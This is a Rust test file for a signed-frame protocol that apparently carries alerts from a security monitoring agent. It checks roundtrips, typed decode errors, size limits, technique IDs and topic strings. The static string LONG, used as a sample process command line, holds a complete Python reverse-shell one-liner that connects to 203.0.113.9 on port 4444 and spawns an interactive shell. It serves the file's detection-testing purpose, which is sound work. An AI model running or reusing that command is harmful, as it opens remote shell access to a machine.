//! Every message survives encode → frame → decode → verify, and every
//! structural error is reported as its own variant.

#![allow(
    clippy::unwrap_used,
    reason = "test helpers outside #[test] fns fail loudly on purpose"
)]

mod common;

use common::{device_id, key_for, samples};
use picket_proto::io::std_io;
use picket_proto::{
    encode_frame, encode_frame_to_vec, topic, AlertBatch, Error, Frame, FrameHeader, Message,
    MessageKind, ReadError, HEADER_LEN, MAX_ALERTS_PER_BATCH, MAX_FRAME_LEN,
};

#[test]
fn every_sample_roundtrips_through_a_signed_frame() {
    let mut all = samples();
    all.push(common::enroll_rejected());
    for msg in &all {
        let key = key_for(msg.kind());
        let frame_bytes = encode_frame_to_vec(msg, device_id(), &key).unwrap();
        let frame = Frame::decode_exact(&frame_bytes).unwrap();
        assert_eq!(frame.kind(), msg.kind());
        assert_eq!(frame.device_id(), device_id());
        let decoded = frame.open_for(device_id(), &key.verifying_key()).unwrap();
        assert_eq!(&decoded, msg, "{:?}", msg.kind());

        // The no-heap encoder writes the same bytes.
        let mut buf = vec![0u8; MAX_FRAME_LEN];
        let n = encode_frame(msg, device_id(), &key, &mut buf).unwrap();
        assert_eq!(&buf[..n], &frame_bytes[..]);

        // Re-encoding a decoded message gives the same body.
        let mut body = vec![0u8; MAX_FRAME_LEN];
        let m = decoded.encode_body(&mut body).unwrap();
        assert_eq!(&body[..m], frame.body());
    }
}

#[test]
fn frames_follow_each_other_on_a_stream() {
    let mut stream = Vec::new();
    for msg in samples() {
        let frame = encode_frame_to_vec(&msg, device_id(), &key_for(msg.kind())).unwrap();
        std_io::write_frame(&mut stream, &frame).unwrap();
    }
    let mut reader = std::io::Cursor::new(&stream);
    let mut buf = vec![0u8; MAX_FRAME_LEN];
    let mut kinds = Vec::new();
    while let Some(frame) = std_io::read_frame(&mut reader, &mut buf).unwrap() {
        kinds.push(frame.kind());
        frame.open(&key_for(frame.kind()).verifying_key()).unwrap();
    }
    assert_eq!(kinds, MessageKind::ALL);

    // Cut inside the last frame: an error, not a clean end.
    let mut reader = std::io::Cursor::new(&stream[..stream.len() - 1]);
    let mut last = None;
    loop {
        match std_io::read_frame(&mut reader, &mut buf) {
            Ok(Some(_)) => {}
            Ok(None) => break,
            Err(e) => {
                last = Some(e);
                break;
            }
        }
    }
    assert!(matches!(last, Some(ReadError::UnexpectedEof)), "{last:?}");
}

#[test]
fn read_frame_refuses_a_frame_larger_than_the_buffer_before_reading_it() {
    let msg = &samples()[0];
    let frame = encode_frame_to_vec(msg, device_id(), &key_for(msg.kind())).unwrap();
    let mut small = vec![0u8; 64];
    let err = std_io::read_frame(std::io::Cursor::new(&frame), &mut small).unwrap_err();
    assert!(
        matches!(err, ReadError::Frame(Error::BufferTooSmall)),
        "{err:?}"
    );
}

fn sample_frame() -> Vec<u8> {
    let msg = &samples()[1];
    encode_frame_to_vec(msg, device_id(), &key_for(msg.kind())).unwrap()
}

#[test]
fn header_errors_are_typed() {
    let good = sample_frame();

    let mut f = good.clone();
    f[0] = b'X';
    assert_eq!(
        Frame::decode(&f).unwrap_err(),
        Error::BadMagic {
            found: [b'X', b'W']
        }
    );

    let mut f = good.clone();
    f[2] = 2;
    assert_eq!(
        Frame::decode(&f).unwrap_err(),
        Error::UnsupportedVersion { found: 2 }
    );

    // A newer version is reported as such even when its kind is unknown here.
    f[3] = 200;
    assert_eq!(
        Frame::decode(&f).unwrap_err(),
        Error::UnsupportedVersion { found: 2 }
    );

    let mut f = good.clone();
    f[3] = 0;
    assert_eq!(
        Frame::decode(&f).unwrap_err(),
        Error::UnknownKind { found: 0 }
    );
    f[3] = 10;
    assert_eq!(
        Frame::decode(&f).unwrap_err(),
        Error::UnknownKind { found: 10 }
    );

    let mut f = good.clone();
    f[4] = 1;
    assert_eq!(
        Frame::decode(&f).unwrap_err(),
        Error::UnsupportedFlags { found: 1 }
    );

    let mut f = good.clone();
    f[5..9].copy_from_slice(&u32::MAX.to_le_bytes());
    assert!(matches!(
        Frame::decode(&f).unwrap_err(),
        Error::FrameTooLarge { .. }
    ));

    let mut f = good.clone();
    f[5..9].copy_from_slice(&79u32.to_le_bytes());
    assert_eq!(
        Frame::decode(&f).unwrap_err(),
        Error::FrameTooShort { len: 79 }
    );

    assert_eq!(
        Frame::decode(&good[..4]).unwrap_err(),
        Error::Incomplete { needed: 5 }
    );
    assert_eq!(
        Frame::decode(&good[..good.len() - 3]).unwrap_err(),
        Error::Incomplete { needed: 3 }
    );

    let mut f = good.clone();
    f.push(0);
    assert_eq!(
        Frame::decode_exact(&f).unwrap_err(),
        Error::TrailingBytes {
            kind: MessageKind::Heartbeat
        }
    );
    let (_, used) = Frame::decode(&f).unwrap();
    assert_eq!(used, good.len());
    assert_eq!(FrameHeader::parse(&good).unwrap().frame_len(), good.len());
    assert!(HEADER_LEN < good.len());
}

#[test]
fn body_errors_name_the_kind() {
    let body = [0xff_u8; 3];
    for kind in MessageKind::ALL {
        assert_eq!(
            Message::decode_body(kind, &body).unwrap_err(),
            Error::MalformedBody { kind }
        );
    }
    let msg = &samples()[1];
    let mut buf = vec![0u8; 1024];
    let n = msg.encode_body(&mut buf).unwrap();
    assert_eq!(
        Message::decode_body(MessageKind::Heartbeat, &buf[..=n]).unwrap_err(),
        Error::TrailingBytes {
            kind: MessageKind::Heartbeat
        }
    );
}

#[test]
fn over_limit_batches_are_refused_both_ways() {
    let alerts: Vec<_> = (0..=MAX_ALERTS_PER_BATCH as u64)
        .map(common::process_alert)
        .collect();
    assert!(AlertBatch::new(&alerts).is_err());
    // Hand-build the body of MAX + 1 alerts: the decoder refuses it.
    let ok = AlertBatch::new(&alerts[..MAX_ALERTS_PER_BATCH]).unwrap();
    let mut body = postcard::to_allocvec(&ok).unwrap();
    // The count is a 2-byte varint (256 = 0x80 0x02); make it 257.
    assert_eq!(&body[..2], &[0x80, 0x02]);
    body[0] = 0x81;
    let extra = postcard::to_allocvec(&alerts[MAX_ALERTS_PER_BATCH]).unwrap();
    body.extend_from_slice(&extra);
    assert_eq!(
        AlertBatch::decode(&body).unwrap_err(),
        Error::MalformedBody {
            kind: MessageKind::AlertBatch
        }
    );
}

#[test]
fn oversized_frames_are_refused_by_the_encoder() {
    let data = vec![0u8; picket_proto::MAX_BUNDLE_CHUNK_LEN];
    let chunk = picket_proto::BundleChunk {
        version: 1,
        index: 0,
        data: picket_proto::BoundedBytes::new(&data).unwrap(),
    };
    // One chunk fits; the limit applies to the whole frame.
    let msg = Message::BundleChunk(chunk);
    let key = key_for(msg.kind());
    assert!(encode_frame_to_vec(&msg, device_id(), &key).is_ok());
    let mut small = [0u8; 100];
    assert_eq!(
        encode_frame(&msg, device_id(), &key, &mut small),
        Err(Error::BufferTooSmall)
    );

    let big: Vec<_> = (0..MAX_ALERTS_PER_BATCH as u64)
        .map(|n| {
            let mut a = common::process_alert(n);
            if let picket_proto::Event::Process(p) = &mut a.event {
                p.command_line = picket_proto::BoundedStr::truncated(LONG);
            }
            a
        })
        .collect();
    let msg = Message::AlertBatch(AlertBatch::new(&big).unwrap());
    assert!(matches!(
        encode_frame_to_vec(&msg, device_id(), &key_for(msg.kind())),
        Err(Error::FrameTooLarge { .. })
    ));
}

static LONG: &str = concat!(
    "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);",
    "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);",
    "os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);' # padding padding padding",
    "padding padding padding padding padding padding padding padding padding padding padding",
    "padding padding padding padding padding padding padding padding padding padding padding",
    "padding padding padding padding padding padding padding padding padding padding padding",
);

#[test]
fn truncation_respects_char_boundaries() {
    let s: picket_proto::BoundedStr<'_, 5> = picket_proto::BoundedStr::truncated("abcdé");
    assert_eq!(s.as_str(), "abcd");
    assert!(picket_proto::BoundedStr::<3>::new("abcd").is_err());
}

#[test]
fn technique_ids_parse_and_print() {
    let t: picket_proto::TechniqueId = "t1059.004".parse().unwrap();
    assert_eq!(t.to_string(), "T1059.004");
    assert_eq!(t.sub(), Some(4));
    assert_eq!(
        "T1105"
            .parse::<picket_proto::TechniqueId>()
            .unwrap()
            .to_string(),
        "T1105"
    );
    for bad in [
        "1059",
        "T105",
        "T10590",
        "T1059.",
        "T1059.000",
        "T1059.04",
        "Tabcd",
    ] {
        assert!(bad.parse::<picket_proto::TechniqueId>().is_err(), "{bad}");
    }
}

#[test]
fn topics_roundtrip_and_fit() {
    let id = device_id();
    for channel in topic::Channel::ALL {
        let t = topic::topic(id, channel);
        assert!(t.starts_with("picket/v1/devices/"));
        assert!(t.ends_with(channel.suffix()));
        assert_eq!(topic::parse(&t), Some((id, channel)));
        assert_eq!(topic::Channel::for_kind(channel.kind()), channel);
        assert!(channel.filter_all_devices().contains("/+/"));
    }
    assert_eq!(
        topic::topic(id, topic::Channel::Alerts).as_str(),
        format!("picket/v1/devices/{id}/alerts")
    );
    assert_eq!(
        topic::Channel::Alerts.filter_all_devices().as_str(),
        "picket/v1/devices/+/alerts"
    );
    assert!(topic::Channel::BundleAnnounce.retained());
    let upper = format!("picket/v1/devices/{}/alerts", id.to_string().to_uppercase());
    assert_eq!(topic::parse(&upper), None);
    assert_eq!(topic::parse("picket/v2/devices/x/alerts"), None);
    assert_eq!(topic::parse(&format!("picket/v1/devices/{id}/nope")), None);
}
